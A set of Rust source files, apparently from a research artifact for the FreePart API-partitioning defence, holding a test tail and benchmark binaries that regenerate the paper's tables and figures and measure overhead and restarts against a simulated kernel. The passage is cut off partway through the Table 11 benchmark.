    let (addr, _) = meta.buffer.unwrap();
    let home = meta.home;
    assert!(matches!(
        rt.kernel.mem_write(home, addr, &[0xAA]),
        Err(SimError::Fault(_))
    ));

    // Kill the loading agent and respawn it; the snapshot restores the
    // classifier payload into new, writable pages.
    let loading = rt.partition_of(rt.registry().id_of("cv2.CascadeClassifier.load").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
    rt.restart_agent(loading);

    let meta = rt.objects.meta(clf_id).unwrap();
    let (new_addr, _) = meta.buffer.expect("snapshot restored the payload");
    let new_home = meta.home;
    assert_ne!(new_home, pid, "restored into the respawned process");
    // The regression: without reapply-after-restore this write succeeds.
    assert!(
        matches!(
            rt.kernel.mem_write(new_home, new_addr, &[0xAA]),
            Err(SimError::Fault(_))
        ),
        "restored snapshot must still be read-only"
    );
    assert!(rt.is_protected(clf_id));
}

#[test]
fn protected_gauge_counts_distinct_objects_across_threads() {
    // Two threads protecting the same host-annotated object is one
    // protected object, not two.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    seed_image(&mut rt, "/a.simg");
    let t = rt.spawn_thread();
    let cfg = rt.host_data("self.config", &[1, 2, 3, 4]);

    // Initialization → Loading on both threads locks `cfg` on each
    // thread's state machine.
    rt.call("cv2.imread", &[Value::from("/a.simg")]).unwrap();
    rt.call_on(t, "cv2.imread", &[Value::from("/a.simg")])
        .unwrap();
    assert!(rt.is_protected(cfg));
    let threads_protecting = [freepart::ThreadId::MAIN, t]
        .iter()
        .filter(|&&th| {
            rt.state_of(th)
                == freepart::FrameworkState::InType(freepart_frameworks::api::ApiType::DataLoading)
        })
        .count();
    assert_eq!(threads_protecting, 2, "both threads transitioned");
    // The gauge is a distinct count: cfg once, plus nothing else defined
    // before the transitions.
    assert_eq!(rt.stats().protected_objects, 1);
}

#[test]
fn routing_table_matches_the_partition_plan() {
    // The precomputed ApiId → PartitionId table must agree with the
    // plan's per-call answer for every API in the catalog.
    let rt = Runtime::install(standard_registry(), Policy::freepart());
    let reg = standard_registry();
    let plan = Policy::freepart().plan;
    for spec in reg.iter() {
        let t = rt.report().type_of(spec.id);
        assert_eq!(
            rt.partition_of(spec.id),
            plan.partition_of(spec.id, t),
            "routing table diverged for {}",
            spec.name
        );
    }
}
