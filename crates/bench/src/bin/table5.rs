//! Regenerates **Table 5**: the CVE set used for evaluation, grouped by
//! vulnerability class, with affected samples and API types.

use freepart_attacks::{VulnClass, TABLE5};
use freepart_bench::Table;

fn main() {
    let mut t = Table::new(["Vuln. Type", "CVE ID", "Vulnerable API", "Samples", "Type"]);
    for class in [
        VulnClass::UnauthorizedMemWrite,
        VulnClass::RemoteCodeExecution,
        VulnClass::DenialOfService,
        VulnClass::UnauthorizedMemRead,
    ] {
        for cve in TABLE5.iter().filter(|c| c.class == class) {
            let samples = cve
                .samples
                .iter()
                .map(u32::to_string)
                .collect::<Vec<_>>()
                .join(",");
            t.row([
                class.to_string(),
                cve.id.to_owned(),
                cve.api.to_owned(),
                samples,
                cve.api_type.short().to_owned(),
            ]);
        }
    }
    t.print("Table 5 — CVEs used for evaluation");
    println!("\n{} CVEs registered (paper: 18).", TABLE5.len());
}
