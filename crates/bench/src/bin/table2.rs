//! Regenerates **Table 2**: framework APIs categorized for the
//! motivating example (OMRChecker) — counts per type with examples,
//! produced by the *hybrid analysis*, not the declared labels.

use freepart_analysis::{categorize, TestCorpus};
use freepart_apps::omr::omr_universe;
use freepart_bench::Table;
use freepart_frameworks::api::ApiType;
use freepart_frameworks::registry::standard_registry;

fn main() {
    let reg = standard_registry();
    let universe = omr_universe(&reg);
    let report = categorize(&reg, &TestCorpus::full(&reg));

    let mut t = Table::new(["Type", "# APIs (measured)", "# APIs (paper)", "Examples"]);
    for (ty, paper) in [
        (ApiType::DataLoading, 3),
        (ApiType::DataProcessing, 75),
        (ApiType::Visualizing, 6),
        (ApiType::Storing, 2),
    ] {
        let members: Vec<&str> = universe
            .iter()
            .filter(|id| report.type_of(**id) == ty)
            .map(|id| reg.spec(*id).name.as_str())
            .collect();
        let examples = members
            .iter()
            .take(4)
            .cloned()
            .collect::<Vec<_>>()
            .join(", ");
        t.row([
            ty.to_string(),
            members.len().to_string(),
            paper.to_string(),
            format!("{examples}, ..."),
        ]);
    }
    t.print("Table 2 — API categorization for the motivating example");
    println!(
        "\nNote: pd.read_csv / json.load / plt.show are statically opaque and were\n\
         categorized by the hybrid (dynamic) pass, matching the paper's footnote."
    );
}
