//! Regenerates **Table 10** (appendix A.1.3): API-isolation granularity
//! — how many of the motivating example's 86 APIs each process holds.

use freepart_apps::omr::omr_universe;
use freepart_baselines::SchemeKind;
use freepart_bench::{granularity, Table};
use freepart_frameworks::registry::standard_registry;

fn main() {
    let reg = standard_registry();
    let universe = omr_universe(&reg);
    let mut t = Table::new(["Scheme", "APIs per process (sorted)"]);
    for kind in SchemeKind::ALL {
        if kind == SchemeKind::Original {
            continue;
        }
        let mut g = granularity(kind, &reg, &universe);
        g.sort_unstable_by(|a, b| b.cmp(a));
        let shown = if g.len() > 8 {
            format!(
                "{} ... ({} processes of 1)",
                g.iter()
                    .take(6)
                    .map(usize::to_string)
                    .collect::<Vec<_>>()
                    .join(", "),
                g.len()
            )
        } else {
            g.iter()
                .map(usize::to_string)
                .collect::<Vec<_>>()
                .join(", ")
        };
        t.row([kind.name().to_owned(), shown]);
    }
    t.print("Table 10 — API isolation granularity (measured)");
    println!(
        "\nPaper (Table 10): Code API 1|1|84; Code API&Data 1|1|84|0|0; Entire 0|86;\n\
         Individual 1×86; Memory 86; FreePart 3|75|6|2|0."
    );
}
