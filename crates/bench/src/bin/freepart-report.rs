//! Observability report: **where FreePart's overhead goes**.
//!
//! Runs the OMR grader under the unprotected original and under FreePart
//! with span tracing enabled, then decomposes the end-to-end virtual-time
//! overhead into marshal / copy / mprotect / compute components from the
//! recorded spans. Also prints the per-partition telemetry breakdown and
//! a security-audit summary, runs the drone control loop traced, and
//! writes its Chrome `trace_event` export to `BENCH_trace.json` at the
//! repo root (open it in Perfetto or `about:tracing`).
//!
//! Tracing never charges virtual time, so the traced FreePart run must
//! land on exactly the same clock value as an untraced one — the report
//! asserts that, and asserts the component sum matches the end-to-end
//! overhead `hotpath` reports to within 1%.
//!
//! ```text
//! cargo run --release -p freepart-bench --bin freepart-report
//! ```

use freepart::{FlushReason, Policy, Runtime};
use freepart_apps::{batched, omr};
use freepart_baselines::{build, ApiSurface, SchemeKind};
use freepart_bench::experiments::omr_workload;
use freepart_bench::fmt::pct;
use freepart_bench::{drone_workload, fast_install, workspace_root, Table};
use freepart_frameworks::registry::standard_registry;

/// Virtual time of one full OMR run on a fresh surface.
fn omr_time(surface: &mut dyn ApiSurface) -> u64 {
    surface.kernel_mut().reset_accounting();
    let r = omr::run(surface, &omr_workload());
    assert!(r.completed > 0, "workload must actually run");
    surface.kernel().now_ns()
}

/// A FreePart runtime with tracing on and accounting zeroed.
fn traced_freepart() -> Runtime {
    let mut rt = fast_install(Policy::freepart());
    rt.enable_tracing();
    rt.kernel.reset_accounting();
    rt
}

fn kb(bytes: u64) -> String {
    format!("{:.1}", bytes as f64 / 1024.0)
}

fn us(ns: u64) -> String {
    format!("{:.1}", ns as f64 / 1e3)
}

fn main() {
    let reg = standard_registry();

    // ---- baselines: original and untraced FreePart ----
    let mut original = build(
        SchemeKind::Original,
        standard_registry(),
        &omr::omr_universe(&reg),
    );
    let t_orig = omr_time(original.as_mut());
    let mut untraced = fast_install(Policy::freepart());
    let t_fp_untraced = omr_time(&mut untraced);

    // ---- traced FreePart run ----
    let mut rt = traced_freepart();
    let t_fp = omr_time(&mut rt);
    assert_eq!(
        t_fp, t_fp_untraced,
        "tracing must not perturb the virtual clock"
    );

    // ---- overhead decomposition ----
    let buckets = rt.tracer().bucket_totals();
    let overhead = t_fp as i64 - t_orig as i64;
    // Agent-side compute replaces the original's inline compute; what the
    // partitioning *adds* on the compute axis is the residual after the
    // three mechanism components are taken out of the FreePart total.
    // `other_ns` is the supervisor's share: restart and snapshot spans
    // that used to fall outside the decomposition entirely.
    let mechanisms = buckets.marshal_ns + buckets.copy_ns + buckets.mprotect_ns + buckets.other_ns;
    let compute_delta = (t_fp as i64 - mechanisms as i64) - t_orig as i64;
    let components = [
        ("marshal", buckets.marshal_ns as i64),
        ("copy", buckets.copy_ns as i64),
        ("mprotect", buckets.mprotect_ns as i64),
        ("restart/snapshot", buckets.other_ns as i64),
        ("compute delta", compute_delta),
    ];
    let sum: i64 = components.iter().map(|(_, v)| v).sum();

    println!("OMR grader, 24 samples (virtual time)");
    println!("  original     : {:>12} ns", t_orig);
    println!("  FreePart     : {:>12} ns", t_fp);
    println!(
        "  overhead     : {:>12} ns ({})",
        overhead,
        pct(t_fp as f64 / t_orig as f64 - 1.0)
    );

    let mut decomp = Table::new(["Component", "Virtual ns", "Share of overhead"]);
    for (name, v) in components {
        decomp.row([
            name.to_owned(),
            v.to_string(),
            pct(v as f64 / overhead as f64),
        ]);
    }
    decomp.print("FreePart overhead decomposition (OMR)");

    let gap = (sum - overhead).abs();
    assert!(
        gap as f64 <= 0.01 * overhead.max(1) as f64,
        "decomposition drifted: components sum to {sum} ns vs {overhead} ns overhead"
    );
    println!(
        "\ndecomposition check: components sum to {sum} ns vs {overhead} ns end-to-end (gap {gap} ns) ✓"
    );

    // ---- per-partition telemetry ----
    let labels: std::collections::BTreeMap<_, _> = rt.partition_labels().into_iter().collect();
    let mut table = Table::new([
        "Partition",
        "Calls",
        "Mean µs",
        "p95 µs",
        "Lazy KB",
        "Eager KB",
        "Journal",
        "Faults",
        "Kills",
    ]);
    for (p, s) in rt.tracer().partition_rollup() {
        let label = labels.get(&p).cloned().unwrap_or_else(|| p.to_string());
        table.row([
            label,
            s.calls.to_string(),
            us(s.latency.mean() as u64),
            us(s.latency.quantile(0.95)),
            kb(s.bytes_lazy),
            kb(s.bytes_eager),
            s.journal_hits.to_string(),
            s.faults.to_string(),
            s.filter_kills.to_string(),
        ]);
    }
    table.print("Per-partition telemetry (OMR under FreePart)");

    // ---- security audit summary ----
    let audit = rt.tracer().audit_log();
    let transitions = audit
        .iter()
        .filter(|r| matches!(r, freepart::AuditRecord::StateTransition { .. }))
        .count();
    let reprotects = audit
        .iter()
        .filter(|r| matches!(r, freepart::AuditRecord::Reprotect { .. }))
        .count();
    let audited_pages: u64 = audit.iter().map(freepart::AuditRecord::pages).sum();
    let kernel_pages = rt.kernel.metrics().protected_pages;
    assert_eq!(
        audited_pages, kernel_pages,
        "audit log must account for every mprotect page transition"
    );
    let snapshots_skipped = rt.kernel.metrics().snapshot_objects_skipped;
    println!(
        "\naudit: {transitions} state transitions, {reprotects} reprotects, \
         {audited_pages} mprotect page transitions (= kernel counter) ✓"
    );
    println!(
        "snapshots: {snapshots_skipped} clean objects skipped by the \
         write-epoch incremental snapshotter"
    );

    // ---- batched submission: where the flushes come from ----
    let mut rt = fast_install(Policy::freepart_batched());
    rt.enable_tracing();
    rt.kernel.reset_accounting();
    let r = batched::run_omr_batched(&mut rt, &omr_workload());
    assert!(r.completed > 0, "workload must actually run");
    let flushes = rt.tracer().batch_flushes();
    assert!(!flushes.is_empty(), "batched run must flush batches");
    let mut table = Table::new(["Flush reason", "Batches", "Calls", "Mean calls/frame"]);
    let mut batched_calls = 0u64;
    for reason in [
        FlushReason::PartitionSwitch,
        FlushReason::Hazard,
        FlushReason::Transition,
        FlushReason::WindowFull,
    ] {
        let of_reason: Vec<_> = flushes.iter().filter(|(_, _, r, _)| *r == reason).collect();
        let calls: u64 = of_reason.iter().map(|(_, _, _, n)| *n as u64).sum();
        batched_calls += calls;
        table.row([
            reason.to_string(),
            of_reason.len().to_string(),
            calls.to_string(),
            if of_reason.is_empty() {
                "-".to_owned()
            } else {
                format!("{:.1}", calls as f64 / of_reason.len() as f64)
            },
        ]);
    }
    table.print("Batch flushes by reason (OMR under FreePart, batched)");
    let kernel_batched = rt.kernel.metrics().calls_batched;
    assert_eq!(
        batched_calls, kernel_batched,
        "flush telemetry must account for every batched call"
    );
    println!(
        "batch check: {} calls in {} frames (= kernel counter) ✓",
        batched_calls,
        flushes.len()
    );

    // ---- adaptive controller: decisions and their input estimates ----
    // The phase-shifting mix forces a mid-run re-decision, so the
    // tables below show the controller actually moving knobs.
    let mix = freepart_apps::mixes::standard_mixes()
        .into_iter()
        .find(|m| m.name == "phase-shift")
        .expect("phase-shift mix exists");
    let mut rt = fast_install(Policy::freepart_adaptive());
    rt.kernel.reset_accounting();
    let r = freepart_apps::mixes::run_mix(&mut rt, &mix);
    assert!(
        r.completed > 0 && r.errors.is_empty(),
        "benign mix must run clean"
    );
    let labels: std::collections::BTreeMap<_, _> = rt.partition_labels().into_iter().collect();
    let label_of =
        |p: &freepart::PartitionId| labels.get(p).cloned().unwrap_or_else(|| p.to_string());

    let flows = rt.adaptive_flows();
    assert!(!flows.is_empty(), "retired calls must leave flow estimates");
    let mut table = Table::new(["Partition", "API", "EWMA B/call", "Samples"]);
    for (p, api, ewma, samples) in &flows {
        table.row([
            label_of(p),
            rt.registry().spec(*api).name.to_string(),
            ewma.to_string(),
            samples.to_string(),
        ]);
    }
    table.print("Adaptive flow estimates by (partition, API) — phase-shift mix");

    let decisions = rt.tracer().policy_decisions();
    assert!(!decisions.is_empty(), "decision points must be reached");
    assert!(
        decisions.iter().any(|d| d.changed),
        "the phase shift must move at least one knob"
    );
    let parts: std::collections::BTreeSet<_> = decisions.iter().map(|d| d.partition).collect();
    let mut table = Table::new([
        "Partition",
        "Decisions",
        "Changed",
        "Shm",
        "Batch",
        "Pipeline",
    ]);
    for p in parts {
        let of_p: Vec<_> = decisions.iter().filter(|d| d.partition == p).collect();
        let knobs = rt.adaptive_knobs(p).expect("controller is on");
        table.row([
            label_of(&p),
            of_p.len().to_string(),
            of_p.iter().filter(|d| d.changed).count().to_string(),
            if knobs.shm_promoted { "on" } else { "off" }.to_owned(),
            knobs
                .batch_window
                .map_or_else(|| "off".to_owned(), |w| w.to_string()),
            knobs.pipeline_window.to_string(),
        ]);
    }
    table.print("Adaptive policy decisions by partition (final knobs)");

    // ---- traced batched drone run → Chrome trace export ----
    // Batched so the exported timeline shows `batch` spans enclosing
    // their member `call` spans and the flush-reason instants.
    let mut rt = fast_install(Policy::freepart_batched());
    rt.enable_tracing();
    rt.kernel.reset_accounting();
    let r = batched::run_drone_batched(&mut rt, &drone_workload());
    assert!(r.frames_processed > 0, "workload must actually run");
    let trace = rt.export_chrome_trace();
    let out = workspace_root().join("BENCH_trace.json");
    std::fs::write(&out, &trace).expect("write BENCH_trace.json");
    println!(
        "\nwrote {} ({} span events, {} partitions + host; load it in Perfetto)",
        out.display(),
        rt.tracer().events().len(),
        rt.partition_labels().len()
    );
}
