//! Regenerates the **Fig. 6 / Study 1** result: all 56 surveyed
//! applications follow the load → process → visualize/store pipeline.

use freepart_apps::study::study_corpus;
use freepart_frameworks::api::ApiType;
use freepart_frameworks::registry::standard_registry;

fn main() {
    let reg = standard_registry();
    let corpus = study_corpus(&reg);
    let mut pipeline_ok = 0;
    let mut with_viz = 0;
    let mut repeats = 0;
    for s in &corpus {
        if s.follows_pipeline(&reg) {
            pipeline_ok += 1;
        }
        if !s.of_type(&reg, ApiType::Visualizing).is_empty() {
            with_viz += 1;
        }
        // Video-style apps repeat the load/process cycle.
        let loads: Vec<usize> = s
            .calls
            .iter()
            .enumerate()
            .filter(|(_, id)| reg.spec(**id).declared_type == ApiType::DataLoading)
            .map(|(i, _)| i)
            .collect();
        if loads.windows(2).any(|w| w[1] - w[0] > 3) {
            repeats += 1;
        }
    }
    println!("\n== Fig. 6 / Study 1 — Pipeline pattern over the 56-app corpus ==");
    println!("apps following load→process→viz/store: {pipeline_ok}/56 (paper: 56/56)");
    println!("apps with a GUI/visualizing stage:      {with_viz}/56 (paper: 'programs without GUI may not use visualizing APIs')");
    println!("apps repeating the load/process cycle:  {repeats}/56 (video-style)");
    assert_eq!(pipeline_ok, 56);
}
