//! Regenerates **Table 8** (appendix A.1.1): the security-level rubric,
//! evaluated mechanically against each scheme on the motivating example.

use freepart_apps::omr::{self, OmrConfig};
use freepart_attacks::payloads;
use freepart_baselines::{build, SchemeKind};
use freepart_bench::Table;
use freepart_frameworks::registry::standard_registry;

/// Evaluates the data-protection rubric rows for one scheme.
fn data_rubric(kind: SchemeKind) -> (bool, bool) {
    // Row: "memory-corruption on template is mitigated".
    let reg = standard_registry();
    let universe = omr::omr_universe(&reg);
    let mut probe = build(kind, standard_registry(), &universe);
    let r = omr::run(probe.as_mut(), &OmrConfig::benign(0));
    let addr = probe.objects().meta(r.template).unwrap().buffer.unwrap().0;
    drop(probe);

    let mut s = build(kind, standard_registry(), &universe);
    let cfg = OmrConfig {
        samples: 2,
        boxes_per_sample: 2,
        evil_sample: Some((0, payloads::corrupt("CVE-2017-12597", addr.0, vec![9; 16]))),
        evil_imshow: None,
    };
    let r = omr::run(s.as_mut(), &cfg);
    let log = s.exploit_log().to_vec();
    let (kernel, objects, host) = s.attack_view();
    let mitigated = freepart_attacks::judge(
        &freepart_attacks::AttackGoal::CorruptObject {
            id: r.template,
            original: r.template_original,
        },
        kernel,
        objects,
        host,
        &log,
    )
    .prevented();
    // Row: "template memory is not shared with APIs" — true when the
    // template's home process runs no framework APIs: the host, or (for
    // the code-based API & Data baseline) a dedicated data process.
    let not_shared = (objects.meta(r.template).is_some_and(|m| m.home == host)
        && !matches!(kind, SchemeKind::Original | SchemeKind::MemoryBased))
        || kind == SchemeKind::CodeApiData;
    (mitigated, not_shared)
}

/// API-side rubric rows: are the example's exploited APIs isolated, and
/// how many processes partition the API surface?
fn api_rubric(kind: SchemeKind) -> (bool, bool, bool, bool) {
    use freepart_bench::{cve_apis_isolated, granularity};
    let reg = standard_registry();
    let universe = omr::omr_universe(&reg);
    let isolated = cve_apis_isolated(kind);
    let g = granularity(kind, &reg, &universe);
    (
        isolated >= 1,             // vulnerable imread isolated
        isolated >= 2,             // vulnerable imshow isolated too
        g.len() >= 4,              // APIs distributed in 5+ processes (incl. host)
        g.len() >= universe.len(), // APIs isolated in individual processes
    )
}

fn main() {
    let mut t = Table::new([
        "Scheme",
        "corruption mitigated",
        "data not shared with APIs",
        "imread isolated",
        "imshow isolated",
        "APIs in 5+ procs",
        "per-API procs",
    ]);
    for kind in SchemeKind::ALL {
        if kind == SchemeKind::Original {
            continue;
        }
        let (mitigated, not_shared) = data_rubric(kind);
        let (a, b, c, d) = api_rubric(kind);
        let y = |b: bool| if b { "yes" } else { "no" };
        t.row([
            kind.name(),
            y(mitigated),
            y(not_shared),
            y(a),
            y(b),
            y(c),
            y(d),
        ]);
    }
    t.print("Table 8 — Security-level rubric (measured)");
    println!(
        "\nPaper rubric (Table 8): FreePart and the data-isolating baselines mitigate\n\
         the corruption; only library-based schemes and FreePart keep critical data\n\
         out of API-hosting processes; per-API isolation is alone in the last column."
    );
}
