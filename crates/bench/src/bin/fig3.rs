//! Regenerates **Fig. 3**: the timeline of API calls, framework-state
//! transitions, and data-protection events for the motivating example's
//! first grading cycle.

use freepart::{Policy, Runtime};
use freepart_apps::omr::{self, OmrConfig};
use freepart_bench::Table;
use freepart_frameworks::registry::standard_registry;

fn main() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.kernel.reset_accounting();
    omr::run(&mut rt, &OmrConfig::benign(2));

    let mut t = Table::new([
        "virtual time",
        "framework state entered",
        "objects locked read-only",
    ]);
    for (ns, state, locked) in rt.state_timeline() {
        t.row([
            format!("{:.3} ms", ns as f64 / 1e6),
            state.to_string(),
            if locked > 0 {
                format!("{locked} (previous stage sealed)")
            } else {
                "-".to_owned()
            },
        ]);
    }
    t.print("Fig. 3 — Timeline of API calls and data protection (measured)");
    println!(
        "\nAs in the paper's Fig. 3: the state starts at Initialization; the first\n\
         imread() call moves it to Data Loading and seals the Initialization-defined\n\
         `template`; each subsequent stage seals its predecessor's objects. Objects\n\
         currently protected at exit: {}.",
        rt.stats().protected_objects
    );
}
