//! Regenerates **Fig. 13**: normalized runtime overhead of FreePart for
//! all 23 applications, plus the no-LDC ablation (§5.2's 9.7%).

use freepart_bench::{fig13_sweep, Table};

fn main() {
    let rows = fig13_sweep();
    let mut t = Table::new(["ID", "Application", "FreePart overhead", "w/o LDC", "bar"]);
    let mut sum = 0.0;
    let mut sum_no_ldc = 0.0;
    for r in &rows {
        let o = r.overhead();
        let n = r.overhead_no_ldc();
        sum += o;
        sum_no_ldc += n;
        t.row([
            r.id.to_string(),
            r.name.to_owned(),
            format!("{:.2}%", o * 100.0),
            format!("{:.2}%", n * 100.0),
            "#".repeat((o * 400.0) as usize),
        ]);
    }
    let avg = sum / rows.len() as f64;
    let avg_no = sum_no_ldc / rows.len() as f64;
    t.print("Fig. 13 — Normalized runtime overhead of FreePart (measured)");
    println!(
        "\nAverage overhead: {:.2}% (paper: 3.68%); without Lazy Data Copy: {:.2}%\n\
         (paper: 9.7%) — LDC reduces overhead {:.1}x (paper: 2.6x).",
        avg * 100.0,
        avg_no * 100.0,
        avg_no / avg.max(1e-9),
    );
}
