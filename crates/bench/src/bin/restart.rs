//! Agent **restart path** benchmark: what a crash costs, and what the
//! supervisor hardening buys back.
//!
//! Three experiments, all in deterministic virtual time:
//!
//! 1. **Restart latency** — cold respawn vs adopting a pre-forked warm
//!    spare (`Policy::warm_spares`), measured around `restart_agent`.
//! 2. **Snapshot traffic** — the drone control loop with a cascade
//!    detector in the loop, run with full-copy vs incremental
//!    (write-epoch) snapshots; reports bytes copied and clean-object
//!    skips.
//! 3. **Crash storm** — the `freepart-apps` storm scenario under the
//!    supervised policy, judged on its three verdicts (exactly-once
//!    replay, bounded healthy p99, DoS detected + audited).
//!
//! Results land in `BENCH_restart.json` at the repo root (hand-rolled
//! JSON; the suite carries no serde) and as tables on stdout.
//! Regenerate with:
//!
//! ```text
//! cargo run --release -p freepart-bench --bin restart
//! ```

use freepart::{Policy, RestartBudget, Runtime};
use freepart_apps::storm::{judge_crash_storm, StormConfig};
use freepart_bench::{fast_install, workspace_root, Table};
use freepart_frameworks::exec::CAMERA_FRAME_LEN;
use freepart_frameworks::{fileio, image::Image, Value};
use freepart_simos::{Camera, FaultKind};

/// Measured cost of one `restart_agent` on the loading partition.
fn restart_cost_ns(rt: &mut Runtime) -> u64 {
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").expect("in catalog"));
    let pid = rt.agent(loading).expect("agent up").pid;
    rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
    let t0 = rt.kernel.now_ns();
    rt.restart_agent(loading);
    rt.kernel.now_ns() - t0
}

/// Sets up a runtime with one served call (so the agent is sealed and
/// the restart path includes the reseal) and measures a restart.
fn measure_restart(policy: Policy) -> u64 {
    let mut rt = fast_install(policy);
    rt.kernel.fs.put(
        "/in.simg",
        fileio::encode_image(&Image::new(16, 16, 3), None),
    );
    rt.call("cv2.imread", &[Value::from("/in.simg")])
        .expect("benign load");
    restart_cost_ns(&mut rt)
}

/// Drone control loop with a cascade detector: per frame a capture
/// read, a color conversion, and a `detectMultiScale` against a model
/// that never changes — the workload incremental snapshots are built
/// for. Returns `(bytes_copied, objects_skipped, frames)`.
fn drone_detector_snapshots(incremental: bool, frames: u32) -> (u64, u64, u32) {
    let mut rt = fast_install(Policy {
        snapshot_interval: 4,
        incremental_snapshots: incremental,
        ..Policy::freepart()
    });
    rt.kernel.camera = Some(Camera::new(42, CAMERA_FRAME_LEN));
    rt.kernel.fs.put("/cascade.xml", vec![3u8; 64 * 1024]);
    let clf = rt
        .call("cv2.CascadeClassifier.load", &[Value::from("/cascade.xml")])
        .expect("model loads");
    let cap = rt
        .call("cv2.VideoCapture", &[Value::I64(0)])
        .expect("capture opens");
    for _ in 0..frames {
        let frame = rt
            .call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
            .expect("frame");
        let gray = rt.call("cv2.cvtColor", &[frame]).expect("convert");
        rt.call(
            "cv2.CascadeClassifier.detectMultiScale",
            &[clf.clone(), gray],
        )
        .expect("detect");
    }
    let m = rt.kernel.metrics();
    (m.snapshot_bytes_copied, m.snapshot_objects_skipped, frames)
}

fn main() {
    // ------------------------------------------------------------------
    // 1. Restart latency: cold vs warm spare.
    // ------------------------------------------------------------------
    let cold_ns = measure_restart(Policy::freepart());
    let warm_ns = measure_restart(Policy {
        warm_spares: 2,
        ..Policy::freepart()
    });
    let mut lat = Table::new(["Restart", "Time (µs)"]);
    lat.row(["cold spawn".into(), format!("{:.3}", cold_ns as f64 / 1e3)]);
    lat.row(["warm spare".into(), format!("{:.3}", warm_ns as f64 / 1e3)]);
    lat.print("Agent restart latency (virtual time)");
    assert!(
        warm_ns < cold_ns,
        "warm spare regressed: {warm_ns} ns warm vs {cold_ns} ns cold"
    );
    println!("warm-spare check: {warm_ns} ns < {cold_ns} ns cold ✓");

    // ------------------------------------------------------------------
    // 2. Snapshot traffic: full copies vs write-epoch incremental.
    // ------------------------------------------------------------------
    let frames = 12;
    let (full_bytes, full_skips, _) = drone_detector_snapshots(false, frames);
    let (inc_bytes, inc_skips, _) = drone_detector_snapshots(true, frames);
    let mut snap = Table::new(["Mode", "Bytes copied", "Objects skipped"]);
    snap.row([
        "full copy".into(),
        full_bytes.to_string(),
        full_skips.to_string(),
    ]);
    snap.row([
        "incremental".into(),
        inc_bytes.to_string(),
        inc_skips.to_string(),
    ]);
    snap.print(&format!(
        "Snapshot traffic, drone+detector ({frames} frames)"
    ));
    assert!(
        inc_bytes < full_bytes,
        "incremental regressed: {inc_bytes} bytes vs {full_bytes} full"
    );
    assert!(inc_skips > 0, "no clean object was ever skipped");
    assert_eq!(full_skips, 0, "full mode must never skip");
    println!("incremental check: {inc_bytes} bytes < {full_bytes} full, {inc_skips} skips ✓");

    // ------------------------------------------------------------------
    // 3. Crash storm under supervision.
    // ------------------------------------------------------------------
    let cfg = StormConfig {
        rounds: 24,
        crash_every: 5,
        adversary: true,
        policy: Policy {
            batch_window: Some(Policy::DEFAULT_BATCH_WINDOW),
            restart_budget: Some(RestartBudget::default()),
            warm_spares: 2,
            ..Policy::freepart()
        },
    };
    let (baseline, storm, verdicts) = judge_crash_storm(&cfg);
    let mut st = Table::new(["Metric", "Baseline", "Storm"]);
    st.row([
        "capture reads ok".into(),
        baseline.successful_reads.to_string(),
        storm.successful_reads.to_string(),
    ]);
    st.row([
        "healthy calls ok".into(),
        baseline.healthy_ok.to_string(),
        storm.healthy_ok.to_string(),
    ]);
    st.row([
        "healthy p99 (ns)".into(),
        baseline.healthy_p99_ns.to_string(),
        storm.healthy_p99_ns.to_string(),
    ]);
    st.row([
        "restarts".into(),
        baseline.restarts.to_string(),
        storm.restarts.to_string(),
    ]);
    st.row([
        "degraded partitions".into(),
        baseline.degraded.len().to_string(),
        storm.degraded.len().to_string(),
    ]);
    st.print("Crash storm (24 rounds, supervised policy)");
    assert!(
        verdicts.all_prevented(),
        "storm verdicts went the attacker's way: {verdicts:?}"
    );
    assert_eq!(
        storm.frames_served, storm.successful_reads,
        "replay must stay exactly-once under the storm"
    );
    println!(
        "storm check: exactly-once ({} frames), p99 {} ns vs {} ns baseline, DoS audited ✓",
        storm.frames_served, storm.healthy_p99_ns, baseline.healthy_p99_ns
    );

    // ------------------------------------------------------------------
    // BENCH_restart.json
    // ------------------------------------------------------------------
    let json = format!(
        "{{\n  \"restart_latency\": {{\"cold_ns\": {cold_ns}, \"warm_ns\": {warm_ns}}},\n  \
         \"snapshots\": {{\"frames\": {frames}, \"full_bytes_copied\": {full_bytes}, \
         \"incremental_bytes_copied\": {inc_bytes}, \"incremental_objects_skipped\": {inc_skips}}},\n  \
         \"storm\": {{\"rounds\": {}, \"successful_reads\": {}, \"frames_served\": {}, \
         \"healthy_ok\": {}, \"baseline_healthy_ok\": {}, \"healthy_p99_ns\": {}, \
         \"baseline_p99_ns\": {}, \"restarts\": {}, \"degraded_partitions\": {}, \
         \"verdicts\": {{\"exactly_once\": {}, \"latency_bounded\": {}, \"dos_detected\": {}}}}}\n}}\n",
        cfg.rounds,
        storm.successful_reads,
        storm.frames_served,
        storm.healthy_ok,
        baseline.healthy_ok,
        storm.healthy_p99_ns,
        baseline.healthy_p99_ns,
        storm.restarts,
        storm.degraded.len(),
        verdicts.exactly_once.prevented(),
        verdicts.latency_bounded.prevented(),
        verdicts.dos_detected.prevented(),
    );
    let out = workspace_root().join("BENCH_restart.json");
    std::fs::write(&out, &json).expect("write BENCH_restart.json");
    println!("wrote {}", out.display());
}
