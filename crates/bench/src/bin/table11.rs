//! Regenerates **Table 11** (appendix A.3): dynamic-analysis coverage
//! per framework, under a paper-shaped partial test corpus.

use freepart_analysis::{categorize, coverage_table, TestCorpus};
use freepart_apps::{resolve, TABLE6};
use freepart_bench::Table;
use freepart_frameworks::api::Framework;
use freepart_frameworks::registry::standard_registry;
use std::collections::{BTreeMap, BTreeSet};

fn main() {
    let reg = standard_registry();
    // The paper's coverage fractions; uncovered APIs are exactly those
    // no evaluated program uses, so the apps' universes are kept.
    let mut fractions = BTreeMap::new();
    fractions.insert(Framework::OpenCv, 0.804);
    fractions.insert(Framework::PyTorch, 0.828);
    fractions.insert(Framework::Caffe, 0.919);
    fractions.insert(Framework::TensorFlow, 0.826);
    let keep: BTreeSet<_> = TABLE6
        .iter()
        .flat_map(|s| resolve(s, &reg).universe())
        .collect();
    let corpus = TestCorpus::with_coverage(&reg, &fractions, &keep);

    let paper: BTreeMap<Framework, (&str, &str)> = [
        (Framework::OpenCv, ("80.4% (424/527)", "91%")),
        (Framework::PyTorch, ("82.8% (111/134)", "84%")),
        (Framework::Caffe, ("91.9% (103/112)", "76%")),
